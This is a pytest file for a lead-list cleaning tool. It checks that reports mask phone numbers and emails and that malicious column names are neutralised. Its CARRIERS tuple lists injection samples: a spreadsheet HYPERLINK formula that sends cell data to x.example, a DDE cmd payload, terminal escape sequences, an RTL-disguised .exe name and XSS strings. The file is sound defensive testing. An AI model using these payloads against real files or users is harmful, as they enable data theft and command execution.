"""The report tells everything and shows no one's number."""

from __future__ import annotations

import csv
import json
import re
import zipfile

import pytest

from dialframe import leads
from dialframe.cli import entry_point
from dialframe.privacy import mask


@pytest.fixture
def cleaned(lead_file):
    return leads.clean(
        lead_file(
            "name,phone,email,City\nAnn,212-555-0142,ann@exampl,NY\nBob,212-555-01,b@example.com,LA\nCy,(212) 555-0142,,SF\nDi,12,,\n"
        ),
        region="US",
    )


def test_the_report_has_counts_reasons_and_decisions(cleaned):
    """What happened, why, and how the file was read."""
    found = leads.report(cleaned)

    assert found["counts"] == cleaned.counts
    assert [reason["code"] for reason in found["reasons"]["rejected"]] == ["phone_too_short"]
    assert found["reasons"]["rejected"][0]["count"] == 2
    assert found["reasons"]["duplicates"][0]["remedy"]
    assert [warning["code"] for warning in found["warnings"]] == ["email_invalid"]
    assert found["files"][0]["columns"]["fields"]["phone"] == ["phone"]
    assert found["files"][0]["decisions"]["dialect"]["delimiter"] == ","
    assert found["leftovers"] == ["City"]
    assert found["csv_escape"] == "apostrophe-1"


def test_the_report_is_json_without_a_number_or_an_address(cleaned):
    """Values in it are masked."""
    text = json.dumps(leads.report(cleaned))

    assert not re.search(r"\+?\d[\d() -]{6,}\d", re.sub(r'"[0-9a-f]{64}"', "", text))
    assert "ann@" not in text


def test_examples_say_where_to_look(cleaned):
    """File and line of the first records with a reason."""
    example = leads.report(cleaned)["reasons"]["rejected"][0]["examples"][0]

    assert example == {"file": "leads.csv", "line": 3, "value": "212-****01"}


def test_long_lists_of_lines_are_cut_and_counted(lead_file):
    """A file with a million repaired lines has a short report."""
    data = b"name,phone\n" + b"".join(
        b"O\x92Dea,212-555-0142\nZo\xc3\xab,212-555-0143\n" for _ in range(200)
    )
    file = lead_file(data)

    decisions = leads.report(leads.clean(file, region="US"))["files"][0]["decisions"]

    assert decisions["repaired_lines_count"] == 200
    assert len(decisions["repaired_lines"]) == 100


@pytest.mark.parametrize(
    ("value", "masked"),
    [
        ("+12125550142", "+121******42"),
        ("12", "**"),
        ("ann@example.com", "a***@example.com"),
        ("Ann", "A**"),
        ("x", "x"),
        ("", ""),
        ("Ann <ann@example.com>", "Ann <***@example.com>"),
    ],
)
def test_masks(value, masked):
    """Enough to recognize, too little to call."""
    assert mask(value, reach="cell") == masked


#: What a list may bring in the names of its columns: formulas, control bytes, text turned around, HTML.
CARRIERS = (
    '=HYPERLINK("http://x.example/?"&A1,"Notes")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tTab\x1b[31m",
    "\x1b]0;title\x07", "invoice\u202efdp.exe", "a\u2066b\u2069", "\x9b31mC1", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "\uff1d1+1", "{{7*7}}",
)  # fmt: skip


@pytest.mark.parametrize("form", ["csv", "xlsx", "jsonl"])
def test_names_of_columns_carry_nothing_into_a_list_or_its_page(tmp_path, form, capsys):
    """No formula in a CSV or a workbook, no script, control byte or turned text on the page or the terminal."""
    path = tmp_path / "list.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        nothing = ["x"] * len(CARRIERS)
        leads_of = [[f"212-555-01{at}", *nothing] for at in range(40, 48)]
        csv.writer(file).writerows([["Phone", *CARRIERS], *leads_of, ["no number", *nothing]])
    out = tmp_path / "out"
    options = ["--region", "US", "--out", str(out), "--format", form, "--store", str(tmp_path / "store")]  # fmt: skip
    entry_point.run(["leads", "clean", str(path), *options, "--show", "invalid_phone"])
    said = capsys.readouterr()
    assert (out / "list.report.html").exists(), said.err
    forbidden = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
    page = (out / "list.report.html").read_text(encoding="utf-8")
    for shown in (said.out, said.err, page):
        assert not forbidden.search(shown)
    assert "<script" not in page
    assert "<img src=x" not in page
    for written in out.glob(f"*.{form}"):
        if form == "csv":
            with written.open(encoding="utf-8", newline="") as file:
                cells = [cell.lstrip() for row in csv.reader(file) for cell in row]
            assert not [cell for cell in cells if re.match(r"[=+@\-\uff1d](?!\d{11}$)", cell)]
        elif form == "xlsx":
            with zipfile.ZipFile(written) as book:
                assert all(
                    b"<f" not in book.read(name) for name in book.namelist() if "sheet" in name
                )
    again = leads.read(out / f"list.clean.{form}")
    assert set(CARRIERS[:4]) <= {name.lstrip("'") for name in again.frame.columns}
